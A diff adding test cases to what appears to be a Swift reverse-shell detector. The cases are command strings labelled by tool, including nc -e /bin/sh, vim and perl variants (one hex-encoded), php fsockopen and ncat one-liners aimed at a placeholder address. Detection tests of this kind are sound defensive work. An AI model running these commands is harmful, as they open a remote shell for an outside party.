@@ -31,6 +31,10 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     ("GET /shell.cgi?cmd=nc+-e+/bin/sh+198.51.100.9+4242 HTTP/1.1", "nc"),
     ("rustcat connect -s bash 198.51.100.9 4242", "nc"),
     ("php -r '$s=fsockopen(\"tcp://198.51.100.9\",4242);exec(\"sh <&3 >&3 2>&3\");'", "php"),
+    ("vim -c ':!nc -e /bin/sh 198.51.100.9 4242'", "nc"), ("!nc -e /bin/sh 198.51.100.9 4242", "nc"),
+    (
+      "perl -e 'eval pack(\"H*\",\"6e63202d65202f62696e2f7368203139382e35312e3130302e392034323432\")'", "nc"
+    ),
     ("nc -e /bin/sh 198.51.100.9 4242", "nc"), ("nc 198.51.100.9 4242 -e bash", "nc"),
     ("nohup ncat --ssl 198.51.100.9 4242 --exec /bin/bash &", "nc"), ("nc -nv 198.51.100.9 4242 -c 'sh -i'", "nc"),
     ("nc 198.51.100.9 4242 | /bin/sh | nc 198.51.100.9 4243", "nc"),
